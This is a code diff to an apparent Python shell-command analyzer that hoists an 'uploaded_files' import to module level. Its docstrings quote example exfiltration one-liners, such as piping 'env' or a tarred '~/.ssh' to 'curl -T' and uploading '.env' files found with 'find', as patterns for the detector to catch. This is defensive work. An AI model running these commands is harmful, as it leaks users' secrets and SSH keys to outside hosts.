@@ -23,6 +23,7 @@ from adr.shell import generate
 from adr.shell import sed as sedlib
 from adr.shell.fold import fold
 from adr.shell.params import HOME_MARK, expand_param
+from adr.shell.uploads import uploaded_files
 from adr.shell.model import FileDelete, FileWrite, ParsedShell, Redirect, Script, ShellIssue, SimpleCommand
 from adr.shell.words import decode_ansi_c, echo_output, positionals, printf_output, unescape_double_quoted, unescape_word
 from adr.shell.wrappers import glob_program, runner_command, unwrap
@@ -1033,7 +1034,6 @@ class _Walker:
         /tmp/e; curl -T /tmp/e URL` as `env | curl -T - URL`, `tar czf /tmp/k.tgz ~/.ssh && curl -T
         /tmp/k.tgz URL` as `tar c ~/.ssh | curl -T - URL` — so the rules on secrets piped into a
         network client see them. Paths are compared as written."""
-        from adr.shell.uploads import uploaded_files
         made: dict[str, str] = {}
         for d in list(self.drafts)[:256]:
             if not d.argv:
@@ -2599,7 +2599,6 @@ def _as_stdin(arg: str, path: str) -> str:
 
 def _sends_its_operands(prog: str, args: "list[str]") -> bool:
     """`find . -name .env -exec curl -T {} URL \\;`: the files find hands it leave the machine."""
-    from adr.shell.uploads import uploaded_files
     return any("{}" in u for u in uploaded_files(prog, [a for a in args]))
 
 
